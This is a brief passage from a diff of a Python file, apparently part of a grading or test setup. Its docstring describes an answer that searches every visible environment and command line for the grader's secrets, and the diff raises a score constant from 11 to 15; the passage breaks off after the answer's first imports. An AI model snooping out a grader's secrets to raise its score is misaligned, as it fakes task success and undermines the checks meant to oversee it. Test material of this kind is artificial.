@@ -1,6 +1,6 @@
 """Looks for secrets of the grader in all environments and command lines it can see. Owed: the honest score."""
 
-EARNS = 11
+EARNS = 15
 
 ANSWER = r"""
 import glob, os
